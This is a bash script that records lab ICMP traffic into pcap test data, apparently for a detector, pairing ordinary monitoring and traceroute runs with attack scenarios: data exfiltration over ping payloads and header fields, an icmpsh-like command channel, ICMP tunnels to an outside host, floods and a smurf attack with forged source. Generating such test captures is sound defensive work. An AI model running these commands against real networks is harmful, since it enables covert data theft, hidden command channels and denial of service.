#!/usr/bin/env bash
# record_extra.sh — scenarios recorded for tests/data/recorded beyond the shared recipes
# (../shared/corpus/record/record.sh), in the same lab: run ../shared/corpus/record/lab.sh up
# first, as root. Every address belongs to the lab; every command is bounded in time.
#
#   record_extra.sh SCENARIO OUT.pcap
#
#   exfil_ping_pattern  a file sent 16 bytes a time in ping -p fill patterns (420 pings)
#   exfil_ping6_pattern the same over ICMPv6 to a server inside (60 pings)
#   sweep_nping         nping --icmp over 10.78.0.32-63
#   sweep_hping_ts      hping3 timestamp requests, one process per target, 10.78.0.32-63
#   sweep_nmap_data     nmap -sn -PE with 40 random bytes in every probe
#   ping_big_external   ping -s 1400, 40 times, to an outside host
#   fping_fast_two      fping -c 200 -p 20 to two servers
#   sweep_zmap          zmap's ICMP echo scan of 10.78.0.32/27 (random order, zmap's own probes)
#   sweep_masscan       masscan --ping over 10.78.0.32/27 (random order)
#   sweep_oping         oping, one probe to each of 10.78.0.32-63 in one run (liboping payload)
#   sweep_busybox       busybox ping -c 1 to each of 10.78.0.32-63 in a shell loop
#   sweep_icmpush_mask  icmpush address-mask requests, one per target, 10.78.0.32-63
#   ping_inetutils      ordinary troubleshooting with GNU inetutils ping (echo, then timestamp)
#   ping_busybox        ordinary troubleshooting with busybox ping
#   monitoring_check_icmp  Nagios/monitoring-plugins check_icmp of 6 servers every 5 s, 50 s
#   monitoring_oping    oping to 8 servers every second for 45 s
#   tracepath_out       tracepath (UDP probes, rising TTL) to an outside host
#   exfil_nping_data    a file sent out as nping --icmp --data payloads, 500 bytes a probe
#   fping_then_nmap_ports  fping -a -g over 10.78.0.32/27, then nmap -sT of admin ports on the
#                       hosts that answered, 20 s later
#   flood_nping         nping --icmp --rate 1000 -c 5000 at one server
#   sweep_ping_loop     iputils ping -c 1 -W 1 to each of 10.78.0.32-63 from a shell loop
#   sweep_slow_fping    fping, one probe every 3 s, over 10.78.0.48/28 (about 50 s)
#   sweep6_fping        fping -6 over fd78::20 - fd78::3f
#   traceroute_many     traceroute -I, traceroute -U and mtr -u -r to three outside and inside hosts
#   exfil_reply_loki    a file sent out in unsolicited echo replies (hping3 -1 -C 0 -E), as LOKI did
#   beacon_nping        nping --icmp every 5 s with a fixed 24-byte string, to an outside host, 100 s
#   exfil_small_file    a 1.6 KB passwd-like file sent out with hping3 -1 -E -d 100 (17 requests)
#   c2_icmpsh_like      a command channel in the manner of icmpsh (icmp_c2.py): the implant polls an
#                       outside master every second, commands come back in echo replies, output
#                       goes out in echo requests (about 80 s)
#   disc6_multicast_ping  ping -6 to the all-nodes group ff02::1 on the user LAN, 3 probes
#   disc6_alive6        thc-ipv6 atk6-alive6 on the user LAN (its default: multicast probes)
#   disc6_nmap_mcast    nmap's targets-ipv6-multicast-echo script on the user LAN
#   tunnel_icmptx       icmptx (IP over ICMP through a tun device) to an outside server: a 150 KB
#                       file sent over TCP through the tunnel, then pings through it
#   tunnel_ptunnel_orig the original ptunnel 0.72 (Debian's ptunnel, not ptunnel-ng) carrying 200 KB
#                       to a proxy outside, with a password
#   flood_ping_big      ping -f -s 1000 -c 1200 at a server (a flood of large default-fill echoes)
#   flood_hping3        hping3 -1 --faster -c 8000 at a server (no payload, 10 µs apart)
#   beacon_slow         ping -i 45 -s 40 -p c0ffee01 to an outside host, 15 times (about 11 min)
#   lateral_after_broadcast  ping -b of the user LAN (answered by its three other hosts), then
#                       TCP connects to 22, 445 and 3389 of each of them 5 s later
#   lateral_after_mcast6  ping -6 ff02::1 from the global address, then TCP connects to 22 and
#                       445 of the hosts that answered, 5 s later
#   sweep6_nd_dead      nmap -6 -sn of fd77::20/123 on the user LAN: neighbour solicitations, no
#                       echo; the 32 addresses are given to ih_ws2 for the run and 24 of them
#                       kept silent (nftables drops their solicitations), as on a sparse link
#   sweep_fping_count5  fping -c 5 -g 10.78.0.32/27: five rounds of the whole range, 1 s apart
#   disc4_broadcast     ping -b to the user LAN's broadcast address, 3 probes, with the other
#                       hosts answering broadcast echo (icmp_echo_ignore_broadcasts=0)
#   scan_udp_nmap       nmap -sU of 100 ports of one live server: the answers are ICMP port
#                       unreachables (rate-limited by the server's kernel)
#   traceroute_variants traceroute -T (TCP SYN), scamper ICMP-paris and UDP-paris traces, mtr -T
#                       and traceroute -I -q 1 -m 8, to outside and inside hosts
#   sweep_scamper       scamper pinging 10.78.0.32-63 once each at 20 packets/s
#   sweep6_scan6        SI6 scan6 echo probes over fd78::20-3f from the user LAN
#   ping_options        ping -R (record route) and ping -T tsandaddr (timestamp option) of a server
#   sweep_nmap_polite   nmap -sn -PE -T2 over 10.78.0.32/28 (0.4 s between probes)
#   monitoring_fping_random  a monitoring server looping fping -R (random fill) over 4 servers
#                       every 2 s for 40 s
#   exfil_internal      hping3 -1 -E FILE -d 500: a file sent in echo requests to an inside server
#   exfil_header_fields a 1.2 KB file hidden 4 bytes a request in the echo id and sequence
#                       fields (icmp_hdr_exfil.py), a fixed 32-byte payload, to an outside host
#   tunnel_ptunnel_unpriv  ptunnel-ng whose proxy runs --unprivileged (it answers with echo
#                       requests of its own, not replies) carrying 100 KB
#   trace6_inside       traceroute -6 -I, mtr -6 and a path-MTU ping over IPv6 to an inside server
#   sweep_nmap_full24   nmap -sn -PE -T4 over 10.78.0.1-254 (every address of the server LAN)
#   monitoring_smokeping  SmokePing-style rounds from the monitoring server: fping -C 20 -p 100
#                       to 8 servers, three rounds 20 s apart
#   ping_huge           ping -s 65000 of an inside server and ping -s 3000 of an outside host,
#                       a few times each (fragmented echoes)
#   sweep_fping_big     fping -a -r 0 -b 1000 -g 10.78.0.32/27 (a sweep with 1000-byte probes)
#   ping_hping3_admin   hping3 -1 -c 5 to a server, then hping3 -1 --icmp-ts -c 3: an admin's test
#   sweep_very_slow     one ping -c 1 every 8 s over 10.78.0.32-47 from a shell loop (about 2.5 min)
#   exfil_icmp6_data    a file sent in ICMPv6 echo requests, 400 random bytes each, 60 of them
#                       0.2 s apart, to an inside server (a raw socket from Python: nping -6
#                       cannot open its capture in the lab)
#   smurf_broadcast     a smurf attack: hping3 sends 300 echo requests to the user LAN's broadcast
#                       address with the source forged to 10.77.0.11, whose neighbours (answering
#                       broadcast echo for the run) all reply to it; 10.77.0.11 and the attacker
#                       each ping a server before, so both hardware addresses are known
#   monitoring_blackbox Prometheus blackbox_exporter's ICMP prober on the monitoring server,
#                       scraped every 5 s for 90 s: the default module at four servers and one
#                       outside host, a 1200-byte payload_size module at a fifth server and the
#                       other outside host (the probes are asked for over the namespace's own
#                       loopback)
#   sweep_packit        packit -t ICMP, one echo request (no payload, TTL 128) to each of
#                       10.78.0.32-63
#   exfil_sendip        a file sent out as base64 lines, one sendip echo request each, 0.3 s apart
#   sweep_parallel_ping iputils ping -c 2 to each of 10.78.0.32-63, all started at once
#   monitoring_external_fping  fping -l -p 1000 of the two outside hosts for 40 s
#   exfil_scapy_varsize 120 echo requests from a raw socket to an outside host, 64-900 random
#                       bytes each, at random gaps of 0.05-0.6 s (a hand-made tunnel's upload)
#   ping_timestamp_admin  an admin's clock checks: clockdiff and clockdiff -o of two servers,
#                       hping3 --icmp-ts -c 40 of a third, nmap -sn -PP of three hosts
#   exfil_timestamp_fields  600 random bytes hidden 4 a request in the originate timestamp of
#                       ICMP timestamp requests (packit -K 13, one id, sequence counting up)
#   exfil_ts_packit_ids the same with packit's own random id and sequence in each request
#   monitoring_fping_big  fping -l -p 2000 -b 1200 of two servers and an outside host for 40 s
#                       (a monitor's large-size check)
#   trace_hping3        hping3 -1 --traceroute to an outside host and to a server (-d 64)
#   sweep_nping_ts      nping timestamp requests over 10.78.0.32-63
set -uo pipefail
sc=$1 out=$2
here=$(cd "$(dirname "$0")" && pwd)
x() { ip netns exec "$@"; }
ip netns exec ih_sw tcpdump -q -U -n -i br0 -s 0 -w "$out" 2>/dev/null &
cap=$!
sleep 1
case $sc in
  exfil_ping_pattern)
    head -c 8000 /dev/urandom | xxd -p -c 16 | head -n 420 > /tmp/ih_lines
    while read -r l; do x ih_atk timeout 2 ping -c 1 -W 1 -p "$l" 203.0.113.7 >/dev/null 2>&1; done < /tmp/ih_lines ;;
  exfil_ping6_pattern)
    head -c 2000 /dev/urandom | xxd -p -c 16 | head -n 60 > /tmp/ih_lines6
    while read -r l; do x ih_atk timeout 2 ping -6 -c 1 -W 1 -p "$l" fd78::28 >/dev/null 2>&1; done < /tmp/ih_lines6 ;;
  sweep_nping)
    x ih_atk timeout 60 nping --icmp -c 1 --rate 50 -q 10.78.0.32-63 >/dev/null 2>&1 ;;
  sweep_hping_ts)
    for i in $(seq 32 63); do x ih_atk timeout 2 hping3 -1 -C 13 -q -c 1 10.78.0.$i >/dev/null 2>&1; done ;;
  sweep_nmap_data)
    x ih_atk timeout 60 nmap -n -sn -PE --data-length 40 -T4 10.78.0.32/27 >/dev/null 2>&1 ;;
  ping_big_external)
    x ih_ws2 timeout 30 ping -q -c 40 -i 0.2 -s 1400 198.51.100.23 >/dev/null 2>&1 ;;
  fping_fast_two)
    x ih_ws2 timeout 30 fping -q -c 200 -p 20 10.78.0.40 10.78.0.50 >/dev/null 2>&1 ;;
  sweep_zmap)
    x ih_atk timeout 60 zmap -q -M icmp_echoscan -i eth0 -S 10.77.0.10 -G 02:00:00:00:00:05 \
      -b /dev/null -r 100 -c 3 -o /dev/null 10.78.0.32/27 >/dev/null 2>&1 ;;
  sweep_masscan)
    x ih_atk timeout 60 masscan --ping 10.78.0.32/27 --rate 100 -e eth0 --adapter-ip 10.77.0.10 \
      --router-mac 02:00:00:00:00:05 --wait 2 >/dev/null 2>&1 ;;
  sweep_oping)
    x ih_atk timeout 30 oping -c 1 $(seq -f 10.78.0.%g 32 63) >/dev/null 2>&1 ;;
  sweep_busybox)
    for i in $(seq 32 63); do x ih_atk timeout 2 busybox ping -c 1 -W 1 10.78.0.$i >/dev/null 2>&1; done ;;
  sweep_icmpush_mask)
    for i in $(seq 32 63); do x ih_atk timeout 2 icmpush -mask -to 1 10.78.0.$i >/dev/null 2>&1; done ;;
  ping_inetutils)
    x ih_ws2 timeout 20 /opt/xtools/inet/bin/ping -c 5 10.78.0.40 >/dev/null 2>&1
    x ih_ws2 timeout 20 /opt/xtools/inet/bin/ping -c 4 203.0.113.7 >/dev/null 2>&1
    x ih_ws2 timeout 20 /opt/xtools/inet/bin/ping --timestamp -c 3 10.78.0.40 >/dev/null 2>&1 ;;
  ping_busybox)
    x ih_ws2 timeout 20 busybox ping -c 6 10.78.0.40 >/dev/null 2>&1
    x ih_ws2 timeout 20 busybox ping -c 4 -s 100 198.51.100.23 >/dev/null 2>&1 ;;
  monitoring_check_icmp)
    for r in $(seq 10); do
      x ih_mon timeout 4 /opt/xtools/mp/usr/lib/nagios/plugins/check_icmp -H 10.78.0.33 -H 10.78.0.40 -H 10.78.0.50 -H 10.78.0.61 -H 10.78.0.77 -H 10.78.0.88 >/dev/null 2>&1
      sleep 4
    done ;;
  monitoring_oping)
    x ih_mon timeout 46 oping -i 1 -c 45 10.78.0.33 10.78.0.34 10.78.0.40 10.78.0.50 10.78.0.61 10.78.0.70 10.78.0.80 10.78.0.93 >/dev/null 2>&1 ;;
  tracepath_out)
    x ih_ws2 timeout 30 tracepath -n -m 5 203.0.113.7 >/dev/null 2>&1 ;;
  exfil_nping_data)
    head -c 30000 /dev/urandom | base64 -w 500 | head -n 60 > /tmp/ih_chunks
    while read -r l; do x ih_atk timeout 2 nping --icmp -c 1 -q --data-string "$l" 203.0.113.7 >/dev/null 2>&1; done < /tmp/ih_chunks ;;
  fping_then_nmap_ports)
    x ih_atk timeout 30 fping -q -a -r 0 -g 10.78.0.32/27 > /tmp/ih_alive 2>/dev/null
    sleep 20
    x ih_atk timeout 60 nmap -n -Pn -sT -p 22,135,445,3389,5985 $(head -n 8 /tmp/ih_alive) >/dev/null 2>&1 ;;
  flood_nping)
    x ih_atk timeout 20 nping --icmp --rate 1000 -c 5000 -q 10.78.0.40 >/dev/null 2>&1 ;;
  sweep_ping_loop)
    for i in $(seq 32 63); do x ih_atk timeout 2 ping -c 1 -W 1 10.78.0.$i >/dev/null 2>&1; done ;;
  sweep_slow_fping)
    x ih_atk timeout 70 fping -q -a -r 0 -i 3000 -p 3000 -g 10.78.0.48/28 >/dev/null 2>&1 ;;
  sweep6_fping)
    x ih_atk timeout 30 fping -6 -q -a -r 0 $(for o in $(seq 32 63); do printf 'fd78::%x ' "$o"; done) >/dev/null 2>&1 ;;
  traceroute_many)
    x ih_ws2 timeout 30 traceroute -n -I -m 5 203.0.113.7 >/dev/null 2>&1
    x ih_ws2 timeout 30 traceroute -n -U -m 5 198.51.100.23 >/dev/null 2>&1
    x ih_ws2 timeout 30 traceroute -n -I -m 5 10.78.0.40 >/dev/null 2>&1
    x ih_ws2 timeout 40 mtr -n -u -r -c 5 203.0.113.7 >/dev/null 2>&1 ;;
  c2_icmpsh_like)
    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=1
    x ih_ext timeout 100 python3 "$here/icmp_c2.py" master 10.77.0.10 90 &
    m=$!
    sleep 0.5
    x ih_atk timeout 95 python3 "$here/icmp_c2.py" implant 203.0.113.7 85
    kill "$m" 2>/dev/null; wait "$m" 2>/dev/null
    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=0 ;;
  exfil_reply_loki)
    head -c 40000 /dev/urandom | base64 > /tmp/ih_loki
    x ih_atk timeout 40 hping3 -1 -C 0 -E /tmp/ih_loki -d 400 -c 80 -i u300000 -q 203.0.113.7 >/dev/null 2>&1 ;;
  beacon_nping)
    x ih_atk timeout 110 nping --icmp -c 20 --delay 5s -q --data-string 'id=7f3a;state=idle;v=2.1' 203.0.113.7 >/dev/null 2>&1 ;;
  exfil_small_file)
    for i in $(seq 0 29); do echo "user$i:x:$((1000 + i)):$((1000 + i)):User $i,,,:/home/user$i:/bin/bash"; done > /tmp/ih_passwd
    n=$(( ($(wc -c < /tmp/ih_passwd) + 99) / 100 ))
    x ih_atk timeout 30 hping3 -1 -q -E /tmp/ih_passwd -d 100 -c "$n" -i u500000 203.0.113.7 >/dev/null 2>&1 ;;
  disc6_multicast_ping)
    x ih_atk timeout 10 ping -6 -n -c 3 -i 1 -I eth0 ff02::1 >/dev/null 2>&1 ;;
  disc6_alive6)
    x ih_atk timeout 30 atk6-alive6 eth0 >/dev/null 2>&1 ;;
  disc6_nmap_mcast)
    x ih_atk timeout 60 nmap -6 -n -e eth0 -sn --script targets-ipv6-multicast-echo >/dev/null 2>&1 ;;
  tunnel_icmptx)
    # the tunnel's own addresses (10.99.0.0/30) are assigned to the two ends' tun devices
    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=1
    x ih_ext sh -c 'timeout 60 icmptx -s 203.0.113.7 >/dev/null 2>&1 &'
    x ih_atk sh -c 'timeout 55 icmptx -c 203.0.113.7 >/dev/null 2>&1 &'
    sleep 1
    x ih_ext ip addr add 10.99.0.1/30 dev tun0; x ih_ext ip link set tun0 up mtu 1400
    x ih_atk ip addr add 10.99.0.2/30 dev tun0; x ih_atk ip link set tun0 up mtu 1400
    x ih_ext sh -c 'timeout 40 socat -u TCP-LISTEN:9000,reuseaddr OPEN:/dev/null >/dev/null 2>&1 &'
    sleep 1
    x ih_atk sh -c 'head -c 150000 /dev/urandom | base64 | timeout 30 socat -u STDIN TCP:10.99.0.1:9000' || true
    x ih_atk timeout 10 ping -n -c 5 -i 1 10.99.0.1 >/dev/null 2>&1
    sleep 2
    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=0 ;;
  tunnel_ptunnel_orig)
    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=1
    x ih_ext sh -c 'timeout 60 socat -u TCP-LISTEN:9000,reuseaddr OPEN:/dev/null >/dev/null 2>&1 &'
    x ih_ext sh -c 'timeout 60 ptunnel -x hunter2 -v -1 >/dev/null 2>&1 &'
    sleep 1
    x ih_atk sh -c 'timeout 50 ptunnel -x hunter2 -v -1 -p 203.0.113.7 -lp 2224 -da 127.0.0.1 -dp 9000 >/dev/null 2>&1 &'
    sleep 2
    x ih_atk sh -c 'head -c 200000 /dev/urandom | timeout 40 socat -u STDIN TCP:127.0.0.1:2224' || true
    sleep 6
    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=0 ;;
  flood_ping_big)
    x ih_atk timeout 30 ping -n -q -f -s 1000 -c 1200 10.78.0.40 >/dev/null 2>&1 ;;
  flood_hping3)
    x ih_atk timeout 30 hping3 -1 -q --faster -c 8000 10.78.0.41 >/dev/null 2>&1 ;;
  beacon_slow)
    x ih_atk timeout 700 ping -n -q -i 45 -s 40 -p c0ffee01 -c 15 198.51.100.23 >/dev/null 2>&1 ;;
  lateral_after_broadcast)
    for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0; done
    x ih_atk timeout 10 ping -n -b -c 2 -i 1 10.77.0.255 >/dev/null 2>&1
    for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=1; done
    sleep 5
    for h in 10.77.0.1 10.77.0.5 10.77.0.11; do
      for p in 22 445 3389; do x ih_atk timeout 3 nc -z -w 1 "$h" "$p" >/dev/null 2>&1; done
    done ;;
  lateral_after_mcast6)
    x ih_atk timeout 10 ping -6 -n -c 2 -i 1 -I fd77::a ff02::1 >/dev/null 2>&1
    sleep 5
    for h in fd77::1 fd77::5 fd77::b; do
      for p in 22 445; do x ih_atk timeout 3 nc -6 -z -w 1 "$h" "$p" >/dev/null 2>&1; done
    done ;;
  sweep6_nd_dead)
    for o in $(seq 32 63); do ip -n ih_ws2 addr add "fd77::$(printf %x "$o")/64" dev eth0 nodad; done
    dead=""; for o in $(seq 32 63); do case $o in 33|37|42|47|51|56|60|62) ;; *) dead+="$o, ";; esac; done
    x ih_ws2 nft -f - <<NFT
table inet nd_dead {
  chain input {
    type filter hook input priority 0;
    icmpv6 type nd-neighbor-solicit @th,184,8 { ${dead%, } } drop
  }
}
NFT
    x ih_atk timeout 60 nmap -6 -n -sn fd77::20/123 >/dev/null 2>&1
    x ih_ws2 nft delete table inet nd_dead
    for o in $(seq 32 63); do ip -n ih_ws2 addr del "fd77::$(printf %x "$o")/64" dev eth0; done ;;
  sweep_fping_count5)
    x ih_atk timeout 30 fping -q -c 5 -g 10.78.0.32/27 >/dev/null 2>&1 ;;
  disc4_broadcast)
    for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0; done
    x ih_atk timeout 10 ping -n -b -c 3 -i 1 10.77.0.255 >/dev/null 2>&1
    for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=1; done ;;
  scan_udp_nmap)
    x ih_atk timeout 120 nmap -n -Pn -sU -p 1-100 --max-retries 1 10.78.0.40 >/dev/null 2>&1 ;;
  traceroute_variants)
    x ih_ws2 timeout 30 traceroute -n -T -p 443 -m 5 203.0.113.7 >/dev/null 2>&1
    x ih_ws2 timeout 40 scamper -c "trace -P icmp-paris -m 5" -i 198.51.100.23 >/dev/null 2>&1
    x ih_ws2 timeout 40 scamper -c "trace -P udp-paris -m 5" -i 203.0.113.7 >/dev/null 2>&1
    x ih_ws2 timeout 40 mtr -n -T -P 22 -r -c 5 10.78.0.40 >/dev/null 2>&1
    x ih_ws2 timeout 30 traceroute -n -I -q 1 -m 8 10.78.0.33 >/dev/null 2>&1 ;;
  sweep_scamper)
    seq 32 63 | sed 's/^/10.78.0./' > /tmp/ih_targets
    x ih_atk timeout 60 scamper -p 20 -c "ping -c 1" -f /tmp/ih_targets >/dev/null 2>&1 ;;
  sweep6_scan6)
    x ih_atk timeout 60 scan6 -i eth0 -d fd78::20-3f -p echo >/dev/null 2>&1 ;;
  ping_options)
    x ih_ws2 timeout 10 ping -n -R -c 4 10.78.0.40 >/dev/null 2>&1
    x ih_ws2 timeout 10 ping -n -T tsandaddr -c 3 10.78.0.41 >/dev/null 2>&1 ;;
  sweep_nmap_polite)
    x ih_atk timeout 120 nmap -n -sn -PE -T2 10.78.0.32/28 >/dev/null 2>&1 ;;
  monitoring_fping_random)
    x ih_mon timeout 42 fping -q -R -b 64 -l -p 2000 10.78.0.33 10.78.0.34 10.78.0.37 10.78.0.40 >/dev/null 2>&1 ;;
  exfil_internal)
    head -c 30000 /dev/urandom | base64 > /tmp/ih_int
    x ih_atk timeout 40 hping3 -1 -q -E /tmp/ih_int -d 500 -c 80 -i u200000 10.78.0.40 >/dev/null 2>&1 ;;
  exfil_header_fields)
    head -c 1200 /etc/services > /tmp/ih_hdr
    x ih_atk timeout 60 python3 "$here/icmp_hdr_exfil.py" 203.0.113.7 /tmp/ih_hdr 0.1 400 ;;
  tunnel_ptunnel_unpriv)
    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=1 net.ipv4.ping_group_range="0 2147483647"
    x ih_ext sh -c 'timeout 60 socat -u TCP-LISTEN:9000,reuseaddr OPEN:/dev/null >/dev/null 2>&1 &'
    x ih_ext sh -c 'timeout 60 ptunnel-ng -v -1 -o/dev/null --unprivileged >/dev/null 2>&1 &'
    sleep 1
    x ih_atk sh -c 'timeout 50 ptunnel-ng -v -1 -o/dev/null -p203.0.113.7 -l2225 -r127.0.0.1 -R9000 >/dev/null 2>&1 &'
    sleep 2
    x ih_atk sh -c 'head -c 100000 /dev/urandom | timeout 40 socat -u STDIN TCP:127.0.0.1:2225' || true
    sleep 4
    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=0 ;;
  trace6_inside)
    x ih_ws2 timeout 30 traceroute -6 -n -I -m 5 fd78::28 >/dev/null 2>&1
    x ih_ws2 timeout 40 mtr -6 -n -r -c 5 fd78::2d >/dev/null 2>&1
    x ih_ws2 timeout 10 ping -6 -n -c 3 -s 1452 -M do fd78::28 >/dev/null 2>&1 ;;
  sweep_nmap_full24)
    x ih_atk timeout 120 nmap -n -sn -PE -T4 10.78.0.1-254 >/dev/null 2>&1 ;;
  monitoring_smokeping)
    for r in 1 2 3; do
      x ih_mon timeout 10 fping -q -C 20 -p 100 -B1 -r1 10.78.0.33 10.78.0.34 10.78.0.37 10.78.0.40 \
        10.78.0.41 10.78.0.45 10.78.0.50 10.78.0.52 >/dev/null 2>&1
      [ $r = 3 ] || sleep 20
    done ;;
  ping_huge)
    x ih_ws2 timeout 20 ping -n -c 3 -s 65000 10.78.0.40 >/dev/null 2>&1
    x ih_ws2 timeout 20 ping -n -c 4 -s 3000 203.0.113.7 >/dev/null 2>&1 ;;
  sweep_fping_big)
    x ih_atk timeout 60 fping -a -q -r 0 -b 1000 -g 10.78.0.32/27 >/dev/null 2>&1 ;;
  ping_hping3_admin)
    x ih_ws2 timeout 20 hping3 -1 -c 5 10.78.0.40 >/dev/null 2>&1
    x ih_ws2 timeout 20 hping3 -1 --icmp-ts -c 3 10.78.0.41 >/dev/null 2>&1 ;;
  sweep_very_slow)
    for i in $(seq 32 47); do x ih_atk timeout 2 ping -n -c 1 -W 1 10.78.0.$i >/dev/null 2>&1; sleep 8; done ;;
  exfil_icmp6_data)
    head -c 24000 /dev/urandom > /tmp/ih_n6
    x ih_atk timeout 30 python3 -c '
import socket, struct, sys, time
d = open("/tmp/ih_n6", "rb").read()
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
for i in range(60):
    s.sendto(struct.pack("!BBHHH", 128, 0, 0, 0x5151, i + 1) + d[i * 400:(i + 1) * 400], ("fd78::28", 0))
    time.sleep(0.2)
' ;;
  smurf_broadcast)
    for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0; done
    x ih_ws2 timeout 10 ping -n -c 3 -i 0.5 10.78.0.40 >/dev/null 2>&1
    x ih_atk timeout 10 ping -n -c 3 -i 0.5 10.78.0.50 >/dev/null 2>&1
    x ih_atk timeout 20 hping3 -1 -q -a 10.77.0.11 -c 300 -i u10000 10.77.0.255 >/dev/null 2>&1
    for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=1; done ;;
  monitoring_blackbox)
    cat > /tmp/ih_bb.yml <<'YML'
modules:
  icmp:
    prober: icmp
    timeout: 3s
    icmp:
      preferred_ip_protocol: ip4
  icmp_big:
    prober: icmp
    timeout: 3s
    icmp:
      preferred_ip_protocol: ip4
      payload_size: 1200
      dont_fragment: true
YML
    x ih_mon timeout 100 prometheus-blackbox-exporter --config.file=/tmp/ih_bb.yml \
      --web.listen-address=127.0.0.1:9115 >/dev/null 2>&1 &
    bb=$!
    sleep 2
    for r in $(seq 18); do
      for t in 10.78.0.33 10.78.0.40 10.78.0.50 10.78.0.61 203.0.113.7; do
        x ih_mon timeout 4 curl -s "http://127.0.0.1:9115/probe?module=icmp&target=$t" >/dev/null 2>&1 &
      done
      for t in 10.78.0.70 198.51.100.23; do
        x ih_mon timeout 4 curl -s "http://127.0.0.1:9115/probe?module=icmp_big&target=$t" >/dev/null 2>&1 &
      done
      sleep 5
    done
    sleep 4
    kill "$bb" 2>/dev/null; wait "$bb" 2>/dev/null ;;
  sweep_packit)
    for i in $(seq 32 63); do x ih_atk timeout 3 packit -t ICMP -K 8 -d 10.78.0.$i -c 1 >/dev/null 2>&1; done ;;
  exfil_sendip)
    head -c 6000 /dev/urandom | base64 -w 120 | head -n 50 > /tmp/ih_sd
    while read -r l; do
      x ih_atk timeout 2 sendip -p ipv4 -is 10.77.0.10 -p icmp -ct 8 -d "$l" 203.0.113.7 >/dev/null 2>&1
      sleep 0.3
    done < /tmp/ih_sd ;;
  sweep_parallel_ping)
    for i in $(seq 32 63); do x ih_atk timeout 3 ping -n -c 2 -W 1 10.78.0.$i >/dev/null 2>&1 & done
    sleep 4 ;;
  monitoring_external_fping)
    x ih_mon timeout 42 fping -q -l -p 1000 203.0.113.7 198.51.100.23 >/dev/null 2>&1 ;;
  exfil_scapy_varsize)
    x ih_atk timeout 60 python3 -c '
import os, random, socket, struct, time
random.seed(7)
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
def csum(b):
    if len(b) % 2: b += b"\0"
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
    return ~t & 0xffff
ident = random.randrange(65536)
for i in range(120):
    d = os.urandom(random.randrange(64, 900))
    c = csum(struct.pack("!BBHHH", 8, 0, 0, ident, i + 1) + d)
    s.sendto(struct.pack("!BBHHH", 8, 0, c, ident, i + 1) + d, ("198.51.100.23", 0))
    time.sleep(random.uniform(0.05, 0.6))
' ;;
  ping_timestamp_admin)
    x ih_ws2 timeout 20 clockdiff 10.78.0.40 >/dev/null 2>&1
    x ih_ws2 timeout 20 clockdiff -o 10.78.0.50 >/dev/null 2>&1
    x ih_ws2 timeout 30 hping3 -1 --icmp-ts -c 40 -i u300000 10.78.0.41 >/dev/null 2>&1
    x ih_ws2 timeout 30 nmap -n -sn -PP --max-retries 0 -T4 203.0.113.7 198.51.100.23 10.78.0.40 >/dev/null 2>&1 ;;
  exfil_timestamp_fields)
    head -c 600 /dev/urandom | xxd -p -c 4 | head -n 120 > /tmp/ih_ts2
    n=1
    while read -r l; do
      x ih_atk timeout 2 packit -t ICMP -K 13 -N 4242 -Q $n -U $((16#$l)) -k 0 -z 0 -d 203.0.113.7 -c 1 >/dev/null 2>&1
      n=$((n + 1)); sleep 0.2
    done < /tmp/ih_ts2 ;;
  exfil_ts_packit_ids)
    head -c 400 /dev/urandom | xxd -p -c 4 | head -n 100 > /tmp/ih_ts
    while read -r l; do
      x ih_atk timeout 2 packit -t ICMP -K 13 -U $((16#$l)) -k 0 -z 0 -d 203.0.113.7 -c 1 >/dev/null 2>&1
      sleep 0.2
    done < /tmp/ih_ts ;;
  monitoring_fping_big)
    x ih_mon timeout 42 fping -q -l -p 2000 -b 1200 10.78.0.33 10.78.0.40 203.0.113.7 >/dev/null 2>&1 ;;
  trace_hping3)
    x ih_ws2 timeout 30 hping3 -1 --traceroute -c 8 203.0.113.7 >/dev/null 2>&1
    x ih_ws2 timeout 30 hping3 -1 --traceroute -c 8 -d 64 10.78.0.40 >/dev/null 2>&1 ;;
  sweep_nping_ts)
    x ih_atk timeout 60 nping --icmp --icmp-type time -c 1 --rate 50 -q 10.78.0.32-63 >/dev/null 2>&1 ;;
  *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
esac
sleep 2
kill -TERM "$cap"; wait "$cap" 2>/dev/null
for n in ih_atk ih_ws2 ih_mon ih_ext; do ip netns pids "$n" | xargs -r kill 2>/dev/null; done
